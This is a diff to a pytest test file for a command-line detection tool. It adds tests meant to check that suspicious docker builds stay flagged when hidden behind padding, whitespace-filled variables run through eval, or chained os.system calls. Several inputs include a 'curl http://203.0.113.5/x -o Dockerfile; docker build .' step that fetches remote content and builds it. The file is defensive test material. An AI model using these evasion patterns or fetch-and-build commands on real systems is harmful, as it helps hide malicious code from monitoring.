@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import shlex
 
 import pytest
 
@@ -18,6 +19,7 @@ LONG = 1 << 20
 COMMANDS = MARKS // DEAREST  # that are read
 PADDING = "a;" * LONG
 BUILD = "docker build /tmp/x"
+_CUT, _TEMP, _PIPED = "process.oversized", "process.temp_source", "process.piped_download"
 
 
 def encoded(text: str) -> str:
@@ -125,6 +127,26 @@ def test_what_a_short_line_makes_long_is_told_of(line: str) -> None:
     named = {"InitiatingProcessCommandLine": line}
 
     assert {"process.oversized_lineage": 2} == signals("docker", "docker build .", **named)
+
+
+WRITES = [f"echo a > f{number};" for number in range(1000)]
+
+
+@pytest.mark.parametrize(
+    ("line", "signal"),
+    [
+        ("".join(WRITES[:500]) + "curl http://203.0.113.5/x -o Dockerfile; docker build .", _PIPED),
+        ("".join(WRITES) + "curl http://203.0.113.5/x -o Dockerfile; docker build .", _CUT),
+        (f"X='{' ' * 9_000}cd /tmp/x; docker build .'; eval \"$X\"", _CUT),
+        (f"X='{' ' * 5_000}cd /tmp/x; docker build .'; eval $X", _TEMP),
+        ('python3 -c "' + "os.system('a b');" * 90 + f"os.system('{BUILD}')\"", _TEMP),
+        ("hyperfine " + "'sleep 1' " * 40 + f"'{BUILD}'", _TEMP),
+    ],
+    ids=["files", "too many files", "too long", "a variable", "program text", "texts"],
+)
+def test_no_number_of_things_in_front_hides_a_build(line: str, signal: str) -> None:
+    """What is written, set or started before it: it is read all the same, or that is told."""
+    assert signal in signals("bash", f"bash -c {shlex.quote(line)}")
 
 
 def test_a_budget_is_as_large_as_one_says() -> None:
